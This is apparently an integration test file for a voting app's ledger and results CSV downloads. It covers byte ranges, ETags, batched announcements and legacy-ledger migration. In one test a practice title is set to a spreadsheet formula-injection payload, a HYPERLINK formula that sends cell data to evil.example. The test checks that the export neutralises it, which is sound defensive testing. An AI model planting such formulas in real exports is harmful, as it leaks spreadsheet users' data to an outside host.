import { createHash } from 'node:crypto';
import { Role } from '../src/common/auth/role';
import { Keyring } from '../src/common/crypto/keyring';
import { LedgerRelocation } from '../src/results/ledger-relocation';
import { ResultsAnnouncer } from '../src/results/results-announcer';
import { buildLedgerCsv } from '../src/results/ledger';
import { ledgerStorageKey } from '../src/results/results.service';
import { FileStorage } from '../src/storage/file-storage';
import { voterPseudonym } from '../src/voting/voting-keys';
import { expectProblem } from './support/assertions';
import { newVoter } from './support/contests';
import { TestContext, TestUser } from './support/test-app';
import { bulkVoters, castVote, closeAndPublish, votingContest } from './support/voting-helpers';

const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');

/** supertest's binary body: the exact bytes served. */
const binary = (request: ReturnType<TestContext['http']['get']>) =>
  request.buffer(true).parse((response, done) => {
    const chunks: Buffer[] = [];
    response.on('data', (chunk: Buffer) => chunks.push(chunk));
    response.on('end', () => done(null, Buffer.concat(chunks)));
  });

/** The ledger's download: streamed from the file storage, with ETag and byte ranges; and legacy rows moved there. */
describe('results download', () => {
  let ctx: TestContext;
  let admin: TestUser;
  /** A contest published with 6,000 votes written by SQL: 7 a millisecond, so same-millisecond groups straddle every cursor batch. */
  let big: { id: string; digest: string; expected: Buffer };

  const ledgerUrl = (contestId: string) => `/api/v1/contests/${contestId}/ledger.csv`;
  const resultEmails = () =>
    ctx.count('email_outbox', "template = 'results-published' AND to_address LIKE 'bulk.%'");

  /** Waits until the announcer has queued every batch of the contest's announcements. */
  async function announced(contestId: string): Promise<void> {
    const deadline = Date.now() + 30_000;
    while (Date.now() < deadline) {
      const [row] = await ctx.db.query('SELECT announced_at FROM contest_results WHERE contest_id = $1', [
        contestId,
      ]);
      if (row?.announced_at) {
        return;
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error(`contest ${contestId} was not announced within 30 s`);
  }

  beforeAll(async () => {
    ctx = await TestContext.start();
    admin = await ctx.newUser({ roles: [Role.Admin] });

    const contest = await votingContest(ctx, admin, { voterPolicy: 'email' }, 3);
    const voters = await bulkVoters(ctx, 6_000);
    // Announcements only to the first 1,500 (more than one batch of them), so the SMTP sink stays calm.
    await ctx.db.query(
      `UPDATE users SET notification_preferences = notification_preferences || '{"contestNews": false}'
        WHERE id = ANY($1)`,
      [voters.slice(1_500).map((v) => v.id)],
    );
    await ctx.db.query(
      `INSERT INTO votes (contest_id, entry_id, voter_id, cast_at, account_age_days, annulled_at, annulled_by, annul_reason)
       SELECT $1, ($2::uuid[])[1 + n % 3], voter, timestamptz '2026-05-01T10:00:00Z' + (n / 7) * interval '1 millisecond', 0,
              CASE WHEN n % 101 = 0 THEN now() END, CASE WHEN n % 101 = 0 THEN $4::uuid END,
              CASE WHEN n % 101 = 0 THEN 'test' END
         FROM unnest($3::uuid[]) WITH ORDINALITY AS t(voter, n)`,
      [contest.id, contest.entries, voters.map((v) => v.id), admin.id],
    );
    const published = await closeAndPublish(ctx, admin, contest.id);
    expect(published.status).toBe(201);
    await announced(contest.id);

    const keyring = ctx.app.get(Keyring);
    const rows: { number: number; voter_id: string; cast_at: Date; annulled: boolean }[] = await ctx.db.query(
      `SELECT e.number, v.voter_id, v.cast_at, v.annulled_at IS NOT NULL AS annulled
         FROM votes v JOIN contest_entries e ON e.id = v.entry_id WHERE v.contest_id = $1`,
      [contest.id],
    );
    const expected = Buffer.from(
      buildLedgerCsv(
        rows.map((row) => ({
          entryNumber: row.number,
          pseudonym: voterPseudonym(keyring, contest.id, row.voter_id),
          castAt: row.cast_at,
          annulled: row.annulled,
        })),
      ),
    );
    big = { id: contest.id, digest: published.body.ledgerSha256, expected };
  }, 120_000);
  afterAll(() => ctx.close());

  it('publishes the ledger streamed from the votes into the file storage: §2 bytes, digest, size, nothing in the row', async () => {
    expect(big.digest).toBe(sha256(big.expected));
    const [row] = await ctx.db.query(
      'SELECT ledger_key, ledger_bytes, ledger_csv FROM contest_results WHERE contest_id = $1',
      [big.id],
    );
    expect(row).toEqual({
      ledger_key: ledgerStorageKey(big.id),
      ledger_bytes: String(big.expected.length),
      ledger_csv: null,
    });
    expect(await ctx.app.get(FileStorage).get(row.ledger_key)).toEqual(big.expected);
    // Announced after the commit, in batches, to every voter who wants contest news.
    expect(await resultEmails()).toBe(1_500);
  });

  it('announces in batches that resume after an interruption, telling nobody twice', async () => {
    const announcer = ctx.app.get(ResultsAnnouncer);
    // As if the process had stopped after the first batch of 1,000: progress kept, later emails never queued.
    const [{ id: through }] = await ctx.db.query(
      `SELECT u.id FROM users u WHERE u.email LIKE 'bulk.%' AND EXISTS (SELECT 1 FROM votes v WHERE v.voter_id = u.id
          AND v.contest_id = $1) AND (u.notification_preferences ->> 'contestNews')::boolean
        ORDER BY u.id OFFSET 999 LIMIT 1`,
      [big.id],
    );
    // Every recipient after that id, the entries' representative included (ids are random, so the
    // representative falls after it in about a third of the runs).
    await ctx.db.query(
      `DELETE FROM email_outbox WHERE template = 'results-published'
          AND to_address IN (SELECT email FROM users WHERE id > $1)`,
      [through],
    );
    await ctx.db.query(
      'UPDATE contest_results SET announced_through = $2, announced_at = NULL WHERE contest_id = $1',
      [big.id, through],
    );
    expect(await resultEmails()).toBeLessThan(1_500);

    await announcer.kick();
    await announcer.kick(); // a second pass (or instance) finds nothing left

    expect(await resultEmails()).toBe(1_500);
    const [{ total, people }] = await ctx.db.query(
      `SELECT count(*)::int AS total, count(DISTINCT to_address)::int AS people
         FROM email_outbox WHERE template = 'results-published'`,
    );
    expect(total).toBe(people); // nobody twice
  });

  it('serves the whole ledger with Content-Length, ETag and Accept-Ranges; the recount regenerates the same digest', async () => {
    const response = await binary(ctx.http.get(ledgerUrl(big.id))).expect(200);

    expect(response.body).toEqual(big.expected);
    expect(response.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-length': String(big.expected.length),
      etag: `"${big.digest}"`,
      'accept-ranges': 'bytes',
    });
    const recount = await ctx.http
      .get(`/api/v1/contests/${big.id}/recount`)
      .set('Authorization', `Bearer ${admin.accessToken}`)
      .expect(200);
    expect(recount.body).toMatchObject({ matches: true, recomputedLedgerSha256: big.digest });
  });

  it('answers one byte range with 206 and exactly those bytes; ranges reassemble the digest', async () => {
    const size = big.expected.length;
    const cases: [string, number, number][] = [
      ['bytes=0-99', 0, 99],
      [`bytes=${size - 10}-`, size - 10, size - 1],
      ['bytes=-25', size - 25, size - 1],
      [`bytes=100-${size + 500}`, 100, size - 1],
    ];
    for (const [range, start, end] of cases) {
      const response = await binary(ctx.http.get(ledgerUrl(big.id)).set('Range', range)).expect(206);
      expect(response.body).toEqual(big.expected.subarray(start, end + 1));
      expect(response.headers['content-range']).toBe(`bytes ${start}-${end}/${size}`);
      expect(response.headers['content-length']).toBe(String(end - start + 1));
      expect(response.headers.etag).toBe(`"${big.digest}"`);
    }

    // A resumed download: three pieces that meet give the published digest.
    const third = Math.floor(size / 3);
    const pieces = [];
    for (const range of [`bytes=0-${third - 1}`, `bytes=${third}-${2 * third - 1}`, `bytes=${2 * third}-`]) {
      pieces.push((await binary(ctx.http.get(ledgerUrl(big.id)).set('Range', range)).expect(206)).body);
    }
    expect(sha256(Buffer.concat(pieces))).toBe(big.digest);
  });

  it('refuses a range past the end with 416, a problem document and Content-Range: bytes */size', async () => {
    const size = big.expected.length;

    for (const range of [`bytes=${size}-`, `bytes=${size + 1}-${size + 9}`, 'bytes=-0']) {
      const response = await ctx.http.get(ledgerUrl(big.id)).set('Range', range);
      expectProblem(response, 416, 'range_not_satisfiable');
      expect(response.headers['content-range']).toBe(`bytes */${size}`);
    }
  });

  it('sends the whole file for several ranges, a malformed Range or a stale If-Range; 304 for the current ETag', async () => {
    const etag = `"${big.digest}"`;
    for (const headers of [
      { Range: 'bytes=0-9,20-29' },
      { Range: 'bytes=9-0' },
      { Range: 'lines=1-2' },
      { Range: 'bytes=0-9', 'If-Range': '"an-older-ledger"' },
    ]) {
      const response = await binary(ctx.http.get(ledgerUrl(big.id)).set(headers)).expect(200);
      expect(response.body).toEqual(big.expected);
    }
    const resumed = await binary(
      ctx.http.get(ledgerUrl(big.id)).set({ Range: 'bytes=0-9', 'If-Range': etag }),
    ).expect(206);
    expect(resumed.body).toEqual(big.expected.subarray(0, 10));

    const cached = await ctx.http.get(ledgerUrl(big.id)).set('If-None-Match', etag).expect(304);
    expect(cached.text ?? '').toBe('');
  });

  it('moves a ledger kept in its row to the file storage byte for byte, keeping the digest; a mismatching one stays', async () => {
    // Two contests published, then put back as the old code stored them: the ledger text in the row.
    const legacy = await votingContest(ctx, admin, { voterPolicy: 'email' }, 2);
    const tampered = await votingContest(ctx, admin, { voterPolicy: 'email' }, 2);
    for (const contest of [legacy, tampered]) {
      expect((await castVote(ctx, await newVoter(ctx), contest.id, contest.entries[0])).status).toBe(201);
      expect((await closeAndPublish(ctx, admin, contest.id)).status).toBe(201);
    }
    const storage = ctx.app.get(FileStorage);
    // Not ASCII, with CR and a trailing space, so a re-encoding or a trim would show.
    const oldLedger =
      'entry_number,voter_pseudonym,cast_at,annulled\n1,Айыл-öäü,2026-05-01T10:00:00.000Z,false\r\n \n';
    const putBack = async (contestId: string, text: string, digest: string) => {
      await storage.delete(ledgerStorageKey(contestId));
      await ctx.db.query(
        `UPDATE contest_results SET ledger_csv = $2, ledger_sha256 = $3, ledger_key = NULL, ledger_bytes = NULL,
                snapshot = jsonb_set(snapshot, '{ledgerSha256}', to_jsonb($3::text))
          WHERE contest_id = $1`,
        [contestId, text, digest],
      );
    };
    await putBack(legacy.id, oldLedger, sha256(Buffer.from(oldLedger, 'utf8')));
    await putBack(tampered.id, `${oldLedger}2,x,2026-05-01T10:00:00.000Z,false\n`, sha256('something else'));
    const before = await binary(ctx.http.get(ledgerUrl(legacy.id))).expect(200);
    expect(before.body).toEqual(Buffer.from(oldLedger, 'utf8'));
    const range = await binary(ctx.http.get(ledgerUrl(legacy.id)).set('Range', 'bytes=0-11')).expect(206);
    expect(range.body.toString()).toBe('entry_number');

    expect(await ctx.app.get(LedgerRelocation).run()).toBe(1);

    const rows: {
      contest_id: string;
      ledger_key: string | null;
      ledger_csv: string | null;
      ledger_sha256: string;
    }[] = await ctx.db.query(
      'SELECT contest_id, ledger_key, ledger_csv, ledger_sha256 FROM contest_results WHERE contest_id = ANY($1)',
      [[legacy.id, tampered.id]],
    );
    const moved = rows.find((r) => r.contest_id === legacy.id);
    const kept = rows.find((r) => r.contest_id === tampered.id);
    expect(moved).toMatchObject({ ledger_key: ledgerStorageKey(legacy.id), ledger_csv: null });
    expect(moved?.ledger_sha256).toBe(sha256(Buffer.from(oldLedger, 'utf8')));
    expect(await storage.get(ledgerStorageKey(legacy.id))).toEqual(Buffer.from(oldLedger, 'utf8'));
    const after = await binary(ctx.http.get(ledgerUrl(legacy.id))).expect(200);
    expect(after.body).toEqual(before.body);
    expect(after.headers.etag).toBe(`"${sha256(Buffer.from(oldLedger, 'utf8'))}"`);
    expect(kept).toMatchObject({
      ledger_key: null,
      ledger_csv: `${oldLedger}2,x,2026-05-01T10:00:00.000Z,false\n`,
    });
    expect(await storage.get(ledgerStorageKey(tampered.id))).toBeUndefined();

    // Run again (a second instance, a restart): nothing left to move.
    expect(await ctx.app.get(LedgerRelocation).run()).toBe(0);
  });

  it('neutralises results.csv cells a spreadsheet would run as formulas (practice titles, nominations)', async () => {
    const contest = await votingContest(
      ctx,
      admin,
      { voterPolicy: 'email', nominations: [{ title: { ru: '@Бюджет' }, winnersCount: 1 }] },
      2,
    );
    await ctx.db.query(
      `UPDATE practices SET title = $2 WHERE id = (SELECT practice_id FROM contest_entries WHERE id = $1)`,
      [contest.entries[0], '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'],
    );
    await ctx.db.query(
      `UPDATE practices SET title = $2 WHERE id = (SELECT practice_id FROM contest_entries WHERE id = $1)`,
      [contest.entries[1], '-1+2'],
    );
    expect((await closeAndPublish(ctx, admin, contest.id)).status).toBe(201);

    const csv = (await ctx.http.get(`/api/v1/contests/${contest.id}/results.csv`).expect(200)).text;

    const lines = csv.split('\n');
    expect(lines[0]).toBe('nomination,rank,entry_number,practice,municipality,votes,winner');
    expect(lines[1]).toMatch(
      /^'@Бюджет,1,1,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Подробнее""\)",/,
    );
    expect(lines[2]).toMatch(/^'@Бюджет,2,2,'-1\+2,/);
    // No cell of any row starts a formula.
    for (const line of lines.slice(1).filter(Boolean)) {
      for (const cell of line.split(',')) {
        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});
